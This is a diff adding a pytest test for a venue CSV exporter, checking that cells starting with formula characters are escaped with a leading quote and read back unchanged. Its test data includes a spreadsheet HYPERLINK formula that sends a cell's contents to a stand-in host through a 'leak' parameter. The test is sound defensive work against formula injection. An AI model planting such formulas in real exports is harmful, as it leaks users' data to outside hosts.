@@ -1,6 +1,8 @@
 from __future__ import annotations
 
+import csv
 import io
+import re
 from pathlib import Path
 
 import pytest
@@ -9,6 +11,7 @@ from sqlalchemy.orm import Session
 
 from bot.db.models import HelpSession, Organisation, Venue
 from bot.geo.codepoint import load_postcodes
+from bot.spreadsheet import FORMULA_START
 from bot.venues.csvio import ImportFailed
 from bot.venues.venue_csv import VENUE_COLUMNS, export_venues, import_venues
 from tests.conftest import LS1_3AB, Factory
@@ -139,3 +142,33 @@ def test_export_writes_what_import_reads(with_postcodes: Session, tmp_path: Path
     again = io.StringIO()
     export_venues(with_postcodes, again)
     assert again.getvalue() == first.getvalue()
+
+
+HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A2,"Click")'
+
+
+def test_the_export_never_holds_a_formula_and_reads_back_the_same(
+    with_postcodes: Session, factory: Factory
+) -> None:
+    names = [HYPERLINK, "+44 centre", "-dash hall", "@home", "'=quoted", "'Tis the season hall"]
+    for number, name in enumerate(names):
+        factory.venue(name=name, opening_notes="\tTuesdays" if number == 0 else None)
+    written = io.StringIO()
+    export_venues(with_postcodes, written)
+    rows = list(csv.DictReader(io.StringIO(written.getvalue())))
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-?\d+\.\d+", cell), (column, cell)
+    assert {row["name"] for row in rows} == {
+        "'" + HYPERLINK,
+        "'+44 centre",
+        "'-dash hall",
+        "'@home",
+        "''=quoted",
+        "'Tis the season hall",
+    }
+    assert {row["longitude"] for row in rows} == {f"{LS1_3AB[1]:.6f}"}, "numbers stay numbers"
+    import_venues(with_postcodes, written.getvalue(), replace=True)
+    with_postcodes.expire_all()
+    assert set(_venues(with_postcodes)) == set(names)
+    assert _venues(with_postcodes)[HYPERLINK].opening_notes == "Tuesdays", "trimmed as any cell"
